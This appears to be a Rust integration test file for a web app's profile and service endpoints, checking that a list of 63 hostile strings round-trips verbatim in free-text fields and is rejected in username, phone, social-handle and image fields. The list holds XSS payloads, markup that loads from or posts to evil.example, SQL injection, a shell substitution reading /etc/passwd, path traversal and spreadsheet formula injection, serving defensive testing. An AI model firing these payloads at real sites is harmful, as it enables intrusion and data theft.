//! Texts that would be code somewhere else come back letter for letter.

use serde_json::{Value, json};

use super::people::{PROFILE, SERVICES, profile, public_path, service};
use crate::engines::{Engine, on_both_engines};
use crate::harness::TestApp;

/// Every one goes into every field that people fill in.
pub const HOSTILE: [&str; 63] = [
    // Markup that runs, loads or covers something.
    "</script><script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt>alert`1`</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "\"><svg onload=alert(1)>",
    "'><svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">Portfolio</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<form action=//evil.example><input name=password>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=\"//evil.example/\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style=\"position:fixed;inset:0;background:#fff\">",
    "</title></textarea></noscript><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--#exec cmd=\"ls\"--> ]]>",
    "<template><script>alert(1)</script></template>",
    // What breaks out of an attribute or an address.
    "\" onmouseover=\"alert(1)\" x=\"",
    "' autofocus onfocus='alert(1)",
    "` onload=alert(1) `",
    "javascript:alert(1)",
    "JaVaScRiPt://%0aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/%2f..",
    // Markup that some step on the way might decode.
    "&lt;b&gt; &amp;amp; &#x27;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    // Templates, also our own.
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "__BRAND__ __INSTANCE__ {{brand}} $& $1",
    // Statements, commands, formulas and paths.
    "'; DROP TABLE profiles; --",
    "' OR '1'='1",
    "\\'; SELECT pg_sleep(5); --",
    "1; ATTACH DATABASE 'x' AS y",
    "$1 $2 %s %n ?1",
    "$(touch /tmp/x) `id` | cat /etc/passwd",
    "=1+1 @SUM(A1) +cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    // Headers, and words that mean something to a program.
    "a%00b%0d%0aSet-Cookie: x=y",
    "\\u0000 \\x00 \\n",
    "__proto__ constructor toString",
    "null undefined NaN true",
    "{\"isAdmin\":true,\"$ne\":null}",
    "Ω≈ç√∫ ﷽ ʇxǝʇ 𝕬𝖓𝖓𝖆 👩‍👩‍👧‍👦 ü",
];

async fn hostile_texts_come_back_letter_for_letter(engine: Engine) {
    let app = TestApp::on(&engine, &[]).await;
    let (anna, visitor) = (app.published("anna").await, app.browser());
    let made = anna.offer("Portrait").await.expect(201).json();
    let path = format!("{SERVICES}/{}", made["id"].as_str().unwrap());
    for text in HOSTILE {
        let form = profile(|form| {
            form["displayName"] = json!(text);
            form["bio"] = json!(format!("{text}\n{text}"));
        });
        anna.put(PROFILE, form).await.expect(200);
        let form = service(|form| {
            form["title"] = json!(text);
            form["description"] = json!(format!("{text}\n\n{text}"));
        });
        anna.put(&path, form).await.expect(200);
        for seen in [anna.profile().await, visitor.get(&public_path("anna")).await.expect(200).json()] {
            let texts = [&seen["displayName"], &seen["bio"], &seen["services"][0]["title"]];
            assert_eq!(texts, [&json!(text), &json!(format!("{text}\n{text}")), &json!(text)]);
            assert_eq!(seen["services"][0]["description"], json!(format!("{text}\n\n{text}")));
        }
    }
    assert_eq!(anna.profile().await["services"].as_array().map(Vec::len), Some(1));
}

async fn where_letters_are_few_hostile_texts_do_not_pass(engine: Engine) {
    let app = TestApp::on(&engine, &[]).await;
    let anna = app.published("anna").await;
    let before: Value = anna.profile().await;
    for text in HOSTILE {
        for field in ["username", "phone", "socialHandle"] {
            let answer = anna.put(PROFILE, profile(|form| form[field] = json!(text))).await;
            assert_eq!(answer.status, 400, "{field} = {text}");
            assert!(answer.fields()[0].starts_with(field), "{}", answer.text);
        }
        let answer = anna.put(PROFILE, profile(|form| form["profileImage"] = json!(text))).await;
        answer.refused(400, "invalid-image");
    }
    assert_eq!(anna.profile().await, before);
}

on_both_engines! {
    hostile_texts_come_back_letter_for_letter,
    where_letters_are_few_hostile_texts_do_not_pass,
}
